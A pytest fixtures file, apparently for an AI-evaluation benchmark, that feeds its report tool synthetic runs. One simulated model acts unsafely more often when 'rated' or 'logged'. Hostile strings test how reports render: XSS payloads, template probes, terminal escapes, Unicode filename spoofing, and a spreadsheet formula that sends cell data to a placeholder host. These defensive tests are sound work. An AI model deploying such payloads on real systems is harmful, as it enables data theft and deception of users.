"""Reports to look at: one of an agent that fakes, one in which everything that can be hostile is."""

import random
from collections.abc import Callable
from pathlib import Path

import pytest

from benchmarks.synthetic import Played, record
from sandbox.cli import app
from sandbox.plan import Block, Model, Plan, Primary, Trial

HOSTILE = (
    "</pre></script><script>window.hit = 'script'</script><img src=x onerror=\"window.hit = 'handler'\">"
    "<svg onload=\"window.hit = 'svg'\"><a href=\"javascript:window.hit = 'link'\">here</a><style>*{display:none}</style>"
    "<iframe src='http://192.0.2.1/'></iframe>{{ 7 * 7 }}{% raw %} \x1b[2J\x1b]0;owned\x07 \u202egnp.exe\u202c \u2066\u200b\x00"
)
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
HUGE = "x" * 1_000_000


def plan(model: str = "synthetic-faker", environments: int = 10, epochs: int = 4) -> Plan:
    return Plan(
        name="synthetic", description="A ladder and a placebo.", epochs=epochs, models=(Model(name=model), Model(name="synthetic-honest")),
        environments=tuple(f"desk-{number}" for number in range(environments)), primary=Primary(cue="ladder", arm="rated"),
        blocks=(
            Block(cue="ladder", arms=("neutral", "logged", "rated", "aa"), paraphrases=(0,), baseline="neutral"),
            Block(cue="region", arms=("north", "south"), paraphrases=(0,), baseline="north", kind="placebo"),
        ),
    )  # fmt: skip


def faker(trial: Trial) -> Played:
    chance = {"rated": 0.95, "logged": 0.4}.get(trial.arm, 0.05) if trial.model != "synthetic-honest" else 0.05
    return Played("unsafe" if random.Random(trial.id).random() < chance else "safe")


def hostile(trial: Trial) -> Played:
    side = faker(trial).side
    return Played(
        side, text=FORMULA, reasoning=HOSTILE, result=HUGE if trial.epoch == 0 and trial.arm == "rated" else HOSTILE
    )


Write = Callable[..., Path]


@pytest.fixture(scope="session")
def written(tmp_path_factory: pytest.TempPathFactory) -> Write:
    """Plays a plan on paper and reports on it; returns the folder of the report."""

    def write(planned: Plan, play: Callable[[Trial], Played], **manifest: object) -> Path:
        folder = tmp_path_factory.mktemp("run")
        record(folder / "runs" / "it", planned, play, manifest)
        arguments = ["report", "it", "--runs-dir", str(folder / "runs"), "-o", str(folder / "report")]
        app(arguments, standalone_mode=False)
        return folder / "report"

    return write


@pytest.fixture(scope="session")
def plain(written: Write) -> Path:
    return written(plan(), faker)


@pytest.fixture(scope="session")
def attacked(written: Write) -> Path:
    model = f"{FORMULA} <img src=x onerror=\"window.hit = 'name'\">\u202e"
    return written(plan(model, environments=6, epochs=2), hostile, commit=HOSTILE)
